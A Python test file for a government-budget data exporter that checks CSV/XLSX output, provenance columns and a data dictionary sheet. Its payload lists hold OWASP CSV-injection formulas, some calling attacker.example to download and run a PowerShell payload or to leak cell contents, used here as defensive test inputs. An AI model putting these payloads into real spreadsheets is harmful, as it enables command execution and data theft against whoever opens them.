"""CSV/XLSX downloads: UTF-8 BOM, formula injection neutralised (OWASP payloads), numbers left as numbers."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from openpyxl import load_workbook

from fiscal import export

# OWASP "CSV Injection" examples and the other characters a spreadsheet may start a formula with.
PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-1",
]
BENIGN = ["郴州市医疗保障局", "a=b", "1+1", "医保(=)经费", "", "'quoted already"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _frame() -> pl.DataFrame:
    n = len(PAYLOADS)
    return pl.DataFrame({
        "text": PAYLOADS,
        "amount": [-1.5, 2.25, 0.0, 1234567.89, -0.01] * (n // 5),
        "year": [2022] * n,
        "tags": [["=x", "ok"]] * n,
    })


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_dangerous_cells(payload: str) -> None:
    assert export.neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", BENIGN)
def test_neutralise_leaves_plain_text(text: str) -> None:
    assert export.neutralise(text) == text
    assert export.neutralise(None) is None


def test_csv_has_bom_and_is_utf8() -> None:
    data = export.to_csv(pl.DataFrame({"agency": ["郴州市医疗保障局"], "amount": [1.5]}))
    assert data.startswith(b"\xef\xbb\xbf")
    assert "郴州市医疗保障局" in data.decode("utf-8-sig")


def test_csv_neutralises_text_but_not_numbers() -> None:
    data = export.to_csv(_frame())
    back = export.read_csv(data)
    assert back.get_column("text").to_list() == ["'" + p for p in PAYLOADS]
    # numbers stay numbers: a negative amount is written as a bare number, read back as float
    assert back.schema["amount"] == pl.Float64
    assert back.get_column("amount").to_list() == _frame().get_column("amount").to_list()
    assert "\n-1.5," in data.decode("utf-8-sig").replace("\r\n", "\n") or ",-1.5," in data.decode("utf-8-sig")
    # list cells are joined, and then neutralised as text
    assert back.get_column("tags")[0] == "'=x; ok"
    # no cell starts like a formula
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
    assert not [c for c in cells if c.startswith(export.DANGEROUS_START) and not _is_number(c)]


def test_csv_round_trips_plain_rows() -> None:
    df = pl.DataFrame({"agency": BENIGN, "amount": [1.0, 2.0, 3.0, 4.0, 5.0, 6.0], "year": [2021] * 6})
    back = export.read_csv(export.to_csv(df))
    assert back.get_column("amount").to_list() == df.get_column("amount").to_list()
    assert back.get_column("agency").fill_null("").to_list() == BENIGN


def test_xlsx_has_no_formulas_and_keeps_numbers() -> None:
    data = export.to_xlsx(_frame(), sheet="sangong")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "sangong"
    header = [c.value for c in ws[1]]
    assert header == ["text", "amount", "year", "tags"]
    for row in ws.iter_rows(min_row=2):
        text, amount, year, tags = row
        assert text.data_type == "s" and str(text.value).startswith("'")
        assert amount.data_type == "n" and isinstance(amount.value, (int, float))
        assert year.value == 2022
        assert tags.data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


# The OWASP "CSV Injection" cheat-sheet payloads (DDE, HYPERLINK, IMPORTXML …) and variants with
# every leading character a spreadsheet may read as the start of a formula.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "+SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "\r\n=1+1",
    "\n=1",
    "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click for further information\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://attacker.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=WEBSERVICE(\"http://attacker.example/?\"&A1)",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=0+0&\"郴州市\"",
]


def _owasp_frame() -> pl.DataFrame:
    n = len(OWASP_PAYLOADS)
    return pl.DataFrame({
        "agency": OWASP_PAYLOADS,
        "note": ["x;" + p for p in OWASP_PAYLOADS],  # a ';' list separator must not open a new cell
        "amount": [(-1.0) ** i * (i + 0.25) for i in range(n)],
        "year": list(range(2000, 2000 + n)),
    })


def test_owasp_payloads_neutralised_in_csv() -> None:
    df = _owasp_frame()
    data = export.to_csv(df)
    back = export.read_csv(data)
    assert back.get_column("agency").to_list() == ["'" + p for p in OWASP_PAYLOADS]
    assert back.get_column("note").to_list() == df.get_column("note").to_list()
    assert back.schema["amount"] == pl.Float64 and back.schema["year"] == pl.Int64
    assert back.get_column("amount").to_list() == df.get_column("amount").to_list()
    assert back.get_column("year").to_list() == df.get_column("year").to_list()
    text = data.decode("utf-8-sig")
    # every text cell is quoted; numbers are bare (negative ones too)
    assert '"x;=cmd|\' /C calc\'!A0"' in text
    assert ",-1.25," in text
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if c.startswith(export.DANGEROUS_START) and not _is_number(c)]


def test_owasp_payloads_are_never_formulas_in_xlsx() -> None:
    df = _owasp_frame().with_columns(pl.lit("控制\x01字符\x0b").alias("ctl"))
    wb = load_workbook(io.BytesIO(export.to_xlsx(df, sheet="owasp")))
    ws = wb.active
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == len(OWASP_PAYLOADS)
    def xml(text: str) -> str:  # XML stores a CR as LF
        return text.replace("\r\n", "\n").replace("\r", "\n")

    for payload, (agency, note, amount, year, ctl) in zip(OWASP_PAYLOADS, rows, strict=True):
        assert agency.data_type == "s" and xml(agency.value) == xml("'" + payload)
        assert note.data_type == "s" and xml(note.value) == xml("x;" + payload)
        assert amount.data_type == "n" and isinstance(amount.value, float)
        assert year.data_type == "n" and isinstance(year.value, int)
        assert ctl.value == "控制字符"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # also with formulas evaluated nowhere: openpyxl's data_only view sees the same strings
    wb2 = load_workbook(io.BytesIO(export.to_xlsx(df)), data_only=True)
    assert [xml(c.value) for c in wb2.active["A"][1:]] == [xml("'" + p) for p in OWASP_PAYLOADS]


def test_numbers_stay_numbers_in_both_formats() -> None:
    df = pl.DataFrame({"amount": [-1.5, 0.0, None, 1e9], "n": [-3, 0, None, 7], "label": ["-1.5", "+1", None, "1"]})
    back = export.read_csv(export.to_csv(df))
    assert back.get_column("amount").to_list() == [-1.5, 0.0, None, 1e9]
    assert back.get_column("n").to_list() == [-3, 0, None, 7]
    # text that looks like a signed number is still text and is neutralised
    assert back.get_column("label").to_list() == ["'-1.5", "'+1", None, "1"]
    ws = load_workbook(io.BytesIO(export.to_xlsx(df))).active
    assert [c.value for c in ws["A"][1:]] == [-1.5, 0, None, 1e9]
    assert [c.data_type for c in ws["A"][1:] if c.value is not None] == ["n", "n", "n"]


# ---------------------------------------------------------------- provenance and the data dictionary

from datetime import UTC, datetime  # noqa: E402
from pathlib import Path  # noqa: E402

from fiscal import read, store  # noqa: E402
from fiscal.dictionary import COLUMNS, data_dictionary  # noqa: E402
from fiscal.filters import Filters  # noqa: E402
from fiscal.schema import DATASETS, schema  # noqa: E402

DOC_KEPT, DOC_GONE = "c" * 64, "d" * 64


def _provenance_lake(tmp_path: Path) -> Path:
    """Two documents with 三公 rows; only the first one's PDF is kept in _sources/."""
    lake = tmp_path / "lake"
    docs, rows = [], []
    for doc_id, agency_id, agency in ((DOC_KEPT, "ag-kept", "郴州市医疗保障局"), (DOC_GONE, "ag-gone", "=郴州市财政局")):
        common = {"doc_id": doc_id, "region_code": "431000", "region": "湖南省郴州市", "agency_id": agency_id,
                  "agency": agency, "year": 2022}
        docs.append({**common, "page": 1, "source_name": f"{agency}2022年部门决算.pdf", "province": "湖南省",
                     "city": "郴州市", "scope": "department", "doc_kind": "final_account", "unit": "万元", "pages": 20,
                     "tables_found": 9, "tables_expected": 9, "tables": ["sangong"], "checks_passed": 1,
                     "checks_failed": 0, "parser_version": "t", "ingested_at": datetime(2024, 1, 1, tzinfo=UTC),
                     "seconds": 1.0, "synthetic": False, "warnings": []})
        for page, item, amount in ((17, "total", 6.22), (17, "reception", 1.5), (18, "overseas", 0.0)):
            rows.append({**common, "page": page, "stage": "actual", "item": item, "amount": amount, "source": "table"})
    store.commit(lake, {"documents": pl.DataFrame(docs), "sangong": pl.DataFrame(rows)}, [DOC_KEPT, DOC_GONE])
    store.keep_source(lake, DOC_KEPT, b"%PDF-1.4 kept")
    return lake


def test_every_exported_row_carries_its_provenance(tmp_path: Path) -> None:
    lake = _provenance_lake(tmp_path)
    for dataset in ("documents", "sangong"):
        rows = export.export_rows(lake, Filters(), dataset)
        assert rows.height > 0
        assert list(rows.columns[rows.columns.index("doc_id"):][:4]) == list(export.PROVENANCE)
        got = export.read_csv(export.to_csv(rows))
        assert {"doc_id", "source_name", "page", "source_path"} <= set(got.columns)
        assert got.get_column("page").null_count() == 0
        kept = got.filter(pl.col("doc_id") == DOC_KEPT)
        assert kept.get_column("source_path").unique().to_list() == [f"_sources/{DOC_KEPT}.pdf"]
        assert (lake / kept.get_column("source_path")[0]).read_bytes() == b"%PDF-1.4 kept"
        # a document whose PDF is not in the lake has no path (rather than a path to nothing)
        assert got.filter(pl.col("doc_id") == DOC_GONE).get_column("source_path").null_count() > 0
        assert set(got.get_column("source_name")) == {"郴州市医疗保障局2022年部门决算.pdf", "'=郴州市财政局2022年部门决算.pdf"}
    sangong = export.export_rows(lake, Filters(), "sangong")
    assert sorted(sangong.filter(pl.col("doc_id") == DOC_KEPT).get_column("page").to_list()) == [17, 17, 18]
    # the filter narrows the rows, the provenance stays
    one = export.export_rows(lake, Filters(agencies=("ag-kept",)), "sangong")
    assert one.height == 3 and one.get_column("source_path").null_count() == 0


def test_xlsx_has_a_data_dictionary_sheet(tmp_path: Path) -> None:
    lake = _provenance_lake(tmp_path)
    rows = export.export_rows(lake, Filters(), "sangong")
    wb = load_workbook(io.BytesIO(export.to_xlsx(rows, sheet="sangong")))
    assert wb.sheetnames == ["sangong", export.DICTIONARY_SHEET] == ["sangong", "数据字典"]
    assert wb.active.title == "sangong"
    table = [[c.value for c in row] for row in wb["数据字典"].iter_rows()]
    assert table[0] == ["列名", "中文名", "类型", "单位", "说明"]
    by_column = {r[0]: r for r in table[1:]}
    assert list(by_column) == rows.columns  # one line per column of the data sheet, in its order
    assert by_column["amount"][1:4] == ["金额", "小数", "万元"]
    assert by_column["year"][1:3] == ["年度", "整数"]
    assert by_column["source_path"][1] == "来源文件路径" and "_sources" in by_column["source_path"][4]
    assert by_column["page"][1] == "页码"
    assert all(r[1] and r[2] and r[4] for r in table[1:]), table  # label, type and description everywhere
    assert all(c.data_type != "f" for row in wb["数据字典"].iter_rows() for c in row)
    # the data sheet round-trips the provenance
    data = [[c.value for c in row] for row in wb["sangong"].iter_rows()]
    header = data[0]
    paths = {r[header.index("doc_id")]: r[header.index("source_path")] for r in data[1:]}
    assert paths[DOC_KEPT] == f"_sources/{DOC_KEPT}.pdf" and paths[DOC_GONE] is None
    # no dictionary when asked not to
    assert load_workbook(io.BytesIO(export.to_xlsx(rows, dictionary=False))).sheetnames == ["data"]


def test_the_dictionary_covers_every_contract_column() -> None:
    names = {c for d in DATASETS for c in schema(d)}
    assert names <= set(COLUMNS), sorted(names - set(COLUMNS))
    table = data_dictionary(["doc_id", "amount", "warnings", "exec_rate", "not_a_column"])
    assert table.get_column("type").to_list() == ["文本", "小数", "文本（多个值以分号分隔）", "小数", ""]
    assert table.filter(pl.col("column") == "exec_rate").get_column("unit")[0].startswith("比率")
    assert table.filter(pl.col("column") == "not_a_column").get_column("label")[0] == "not_a_column"


def test_flag_export_carries_source_page_and_path(tmp_path: Path) -> None:
    lake = _provenance_lake(tmp_path)
    flags = pl.DataFrame({
        "rule": ["sangong_over_budget", "missing_tables"], "severity": ["warning", "error"],
        "region": ["湖南省郴州市"] * 2, "agency": ["郴州市医疗保障局", "=郴州市财政局"], "year": [2022, 2022],
        "project": [None, None], "message": ["三公超预算", "缺少表格"], "evidence": ['{"actual": 6.22}', "{}"],
        "doc_id": [DOC_KEPT, DOC_GONE], "page": [17, None], "region_code": ["431000"] * 2,
        "agency_id": ["ag-kept", "ag-gone"]}, schema_overrides={"page": pl.Int32, "year": pl.Int32})
    rows = export.flag_rows(lake, flags)
    assert rows.columns[:2] == ["severity", "rule"]
    assert {"doc_id", "source_name", "page", "source_path"} <= set(rows.columns)
    got = export.read_csv(export.to_csv(rows))
    assert got["severity"].to_list() == ["error", "warning"]  # most severe first
    kept = got.row(1, named=True)
    assert (kept["page"], kept["source_path"]) == (17, f"_sources/{DOC_KEPT}.pdf")
    assert kept["source_name"] == "郴州市医疗保障局2022年部门决算.pdf"
    assert got.row(0, named=True)["agency"] == "'=郴州市财政局"  # still neutralised
    wb = load_workbook(io.BytesIO(export.to_xlsx(rows, sheet="flags")))
    assert [r[0].value for r in wb["数据字典"].iter_rows(min_row=2)] == rows.columns
    # the lake's own flags (when the rule engine is installed) export the same way
    try:
        lake_flags = read.flags.all_flags(lake)
    except read.flags.RulesUnavailable:
        return
    out = export.flag_rows(lake, lake_flags)
    assert set(export.PROVENANCE) <= set(out.columns)


def test_yuan_tables_amounts_show_two_decimals_and_the_exact_value_is_kept() -> None:
    """A table printed in 元 is stored exactly in 万元 (1,234.56 元 = 0.123456 万元): the CSV shows amounts as 万元
    are published (two places), data_exact.csv in the zip and the Excel cells keep the exact value."""
    import zipfile

    rows = pl.DataFrame({"agency": ["郴州市财政局", "郴州市财政局"], "amount": [0.123456, 1467.16],
                         "预算数（万元）": [12.345678, 3.0], "Budget (10k yuan)": [0.5, 2.123456],
                         "exec_rate": [0.123456, 0.5], "year": [2023, 2023]})
    shown = export.read_csv(export.to_csv(rows))
    assert shown["amount"].to_list() == [0.12, 1467.16]
    assert shown["预算数（万元）"].to_list() == [12.35, 3.0] and shown["Budget (10k yuan)"].to_list() == [0.5, 2.12]
    assert shown["exec_rate"].to_list() == [0.123456, 0.5]  # not an amount: as is
    bundle = zipfile.ZipFile(io.BytesIO(export.to_bundle(rows, pl.DataFrame({"列名": ["amount"]}))))
    exact = export.read_csv(bundle.read(export.EXACT_CSV))
    assert exact["amount"].to_list() == [0.123456, 1467.16] and exact["预算数（万元）"][0] == 12.345678
    ws = load_workbook(io.BytesIO(export.to_xlsx(rows, dictionary=False))).active
    assert ws["B2"].value == 0.123456 and ws["B2"].number_format == "#,##0.00"
    # tables published in 万元 round to themselves: no second file
    wan = rows.with_columns(pl.col("amount").round(2), pl.col("预算数（万元）").round(2), pl.col("Budget (10k yuan)").round(2))
    assert export.EXACT_CSV not in zipfile.ZipFile(io.BytesIO(export.to_bundle(wan, pl.DataFrame()))).namelist()
